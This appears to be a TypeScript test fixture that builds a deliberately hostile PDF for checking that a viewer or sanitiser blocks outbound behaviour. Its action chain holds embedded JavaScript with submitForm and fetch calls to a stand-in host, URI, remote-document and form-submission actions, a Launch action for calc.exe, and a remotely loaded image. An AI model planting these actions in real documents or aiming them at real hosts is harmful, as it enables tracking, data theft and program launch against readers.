const OUTSIDE = 'https://outside.example'

/** What a PDF can ask a reader to do when it is opened, one after another. */
const ACTIONS = [
  `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${OUTSIDE}/script'\\); fetch\\('${OUTSIDE}/fetch'\\))`,
  `/S /URI /URI (${OUTSIDE}/uri)`,
  '/S /Launch /F (calc.exe)',
  `/S /GoToR /F (${OUTSIDE}/other.pdf) /D [0 /Fit]`,
  `/S /SubmitForm /F << /FS /URL /F (${OUTSIDE}/form) >>`,
]

/**
 * A PDF of pages with these texts that tries to leave its reader in every way: actions on opening, a link over each page, a
 * picture and a font that lie elsewhere.
 */
export function hostilePdf(texts: string[]): Buffer {
  const first = 7
  const pageIds = texts.map((_, at) => first + at * 2)
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /AA << /WC 3 0 R >> >>`,
    `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${texts.length} >>`,
    chained(ACTIONS),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 3 0 R /AA << /PO 3 0 R >> >>`,
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${OUTSIDE}/picture) >>`,
      '',
    ),
    ...texts.flatMap((text, at) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] /Resources << /Font << /F1 4 0 R >> /XObject << /I 6 0 R >> >> /Contents ${first + at * 2 + 1} 0 R >>`,
      stream('', `BT /F1 18 Tf 60 760 Td (${text}) Tj ET /I Do`),
    ]),
  ]
  return written(bodies)
}

const chained = ([action, ...next]: string[]): string =>
  `<< ${action}${next.length > 0 ? ` /Next ${chained(next)}` : ''} >>`

const stream = (fields: string, content: string) =>
  `<< ${fields} /Length ${content.length} >>\nstream\n${content}\nendstream`

function written(bodies: string[]): Buffer {
  let text = '%PDF-1.7\n'
  const offsets = bodies.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const size = bodies.length + 1
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  )
}
